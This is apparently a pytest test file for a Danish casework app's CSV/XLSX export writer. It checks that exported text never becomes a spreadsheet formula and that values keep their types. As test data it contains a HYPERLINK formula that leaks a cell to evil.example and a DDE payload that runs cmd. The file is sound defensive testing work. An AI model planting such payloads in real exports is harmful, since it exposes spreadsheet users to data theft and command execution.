"""The one CSV/XLSX writer: no exported text becomes a spreadsheet formula (OWASP CSV injection),
numbers and dates keep their type, and every export and template goes through it."""

from __future__ import annotations

import ast
import csv
import io
from datetime import date
from decimal import Decimal
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from django.urls import reverse
from hypothesis import given
from hypothesis import strategies as st

from velkomst.core import exports
from velkomst.people.services import case_change_phase

ROOT = Path(__file__).resolve().parents[2]
DANGEROUS = ["=", "+", "-", "@", "\t", "\r"]
HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"klik")'


def read_csv(content: bytes) -> list[list[str]]:
    assert content.startswith("\ufeff".encode())  # Danish Excel reads it as UTF-8
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), delimiter=";"))


def read_xlsx(content: bytes) -> list[list[openpyxl.cell.Cell]]:
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    assert sheet is not None
    return [list(row) for row in sheet.iter_rows()]


@pytest.mark.parametrize("first", DANGEROUS)
def test_a_csv_cell_starting_a_formula_gets_a_quote(first):
    # REQ: SEC-5
    text = f"{first}SUM(1;2)"
    [header, row] = read_csv(exports.csv_bytes([["Navn"], [text]]))
    assert header == ["Navn"] and row == ["'" + text]


@pytest.mark.parametrize("first", DANGEROUS)
def test_an_xlsx_cell_starting_a_formula_is_text_never_a_formula(first):
    # REQ: SEC-5
    text = f"{first}SUM(A1:A2)"
    [_, [cell]] = read_xlsx(exports.xlsx_bytes([["Navn"], [text]]))
    # (XML reads a carriage return back as a line feed)
    assert cell.data_type == "s" and cell.value == text.replace("\r", "\n") and cell.quotePrefix


def test_numbers_and_dates_keep_their_type_and_a_negative_text_is_neutralised():
    # REQ: SEC-5
    rows: list[list[Any]] = [
        ["-5 tal", "tekst", "dato", "beløb"],
        [-5, "-5", date(2026, 7, 1), Decimal("-12.50")],
    ]
    assert read_csv(exports.csv_bytes(rows))[1] == ["-5", "'-5", "01-07-2026", "-12.50"]
    [_, cells] = read_xlsx(exports.xlsx_bytes(rows))
    assert [c.data_type for c in cells] == ["n", "s", "d", "n"]
    assert (
        cells[0].value == -5
        and cells[1].value == "-5"
        and cells[2].value.date() == date(2026, 7, 1)
    )


def test_plain_texts_are_written_as_they_are():
    # REQ: SEC-5
    rows = [["Familien Haddad", "Storegade 1; 3700 Rønne", "a=b", "", None]]
    assert read_csv(exports.csv_bytes(rows)) == [
        ["Familien Haddad", "Storegade 1; 3700 Rønne", "a=b", "", ""]
    ]
    [cells] = read_xlsx(exports.xlsx_bytes(rows))
    assert [c.value for c in cells[:3]] == ["Familien Haddad", "Storegade 1; 3700 Rønne", "a=b"]
    assert not any(c.quotePrefix for c in cells)


@given(text=st.text(alphabet=st.characters(blacklist_categories=["Cs"]), max_size=30))
def test_no_text_is_ever_a_formula_in_either_format(text):
    # REQ: SEC-5
    [[field]] = read_csv(exports.csv_bytes([[text]]))
    if text.startswith(tuple(DANGEROUS)):
        assert field == "'" + text
    else:
        assert field == text
    cells = read_xlsx(exports.xlsx_bytes([["x", text]]))[0]  # control characters dropped
    assert all(cell.data_type != "f" for cell in cells)


def test_control_characters_xml_cannot_hold_do_not_stop_an_xlsx_export():
    # REQ: SEC-5
    [[cell]] = read_xlsx(exports.xlsx_bytes([["Fami\x1flien\x00 Haddad"]]))
    assert cell.value == "Familien Haddad"


def test_the_allocation_meetings_export_neutralises_a_household_named_as_a_formula(
    client, staff, caseworker
):
    # REQ: SEC-5
    from velkomst.associations import services
    from velkomst.associations.tests.conftest import (
        MEETING_MONTH,
        association_with_move_outs,
        household_in_need,
    )

    officer = staff["housing_officer"]
    association_with_move_outs(officer, "Fjordbo", 2)
    household = household_in_need(caseworker, officer, "X", date(2026, 6, 10))
    household.name = HYPERLINK
    household.save(update_fields=["name"])
    meeting = services.meeting_draft(
        acting_user=officer, month=MEETING_MONTH, meeting_date=date(2026, 6, 24)
    )
    client.force_login(officer)
    url = reverse("associations-meeting-export", args=[meeting.pk])

    rows = read_csv(client.get(url, {"format": "csv"}).content)
    assert rows[1][1] == "'" + HYPERLINK
    cells = read_xlsx(client.get(url, {"format": "xlsx"}).content)
    assert all(cell.data_type != "f" for row in cells for cell in row)
    name = cells[1][1]
    assert (name.value, name.data_type, name.quotePrefix) == (HYPERLINK, "s", True)
    assert cells[1][2].data_type == "n"  # the number of persons stays a number


def test_the_audit_log_export_neutralises_a_reason_written_as_a_formula(
    logged_in, staff, caseworker, person
):
    # REQ: SEC-5
    case_change_phase(
        case=person.case,
        to="reception",
        acting_user=caseworker,
        reason="@SUM(1+1)*cmd|' /C calc'!A0",
        expected_version=person.case.version,
    )
    client = logged_in(staff["administrator"])
    response = client.get(reverse("audit-person", args=[person.pk]), {"format": "csv"})
    rows = read_csv(response.content)
    assert ["'@SUM(1+1)*cmd|' /C calc'!A0"] == [r[5] for r in rows[1:] if r[5].startswith("'@")]
    assert not any(field.startswith(tuple(DANGEROUS)) for row in rows for field in row)


def test_no_module_but_the_writer_writes_csv_or_xlsx():
    # REQ: SEC-5
    writer = ROOT / "core" / "exports.py"
    offenders = []
    for path in ROOT.rglob("*.py"):
        if path == writer or "tests" in path.parts:
            continue
        for node in ast.walk(ast.parse(path.read_text())):
            name = ""
            if isinstance(node, ast.Attribute) and node.attr in {"writer", "DictWriter"}:
                if isinstance(node.value, ast.Name) and node.value.id == "csv":
                    name = f"csv.{node.attr}"
            elif isinstance(node, ast.Attribute | ast.Name):
                ident = node.attr if isinstance(node, ast.Attribute) else node.id
                name = ident if ident == "Workbook" else ""
            elif isinstance(node, ast.ImportFrom) and node.module == "openpyxl":
                if any(alias.name == "Workbook" for alias in node.names):
                    name = "from openpyxl import Workbook"
            if name:
                offenders.append(f"{path.relative_to(ROOT)}:{getattr(node, 'lineno', 0)}: {name}")
    assert offenders == []
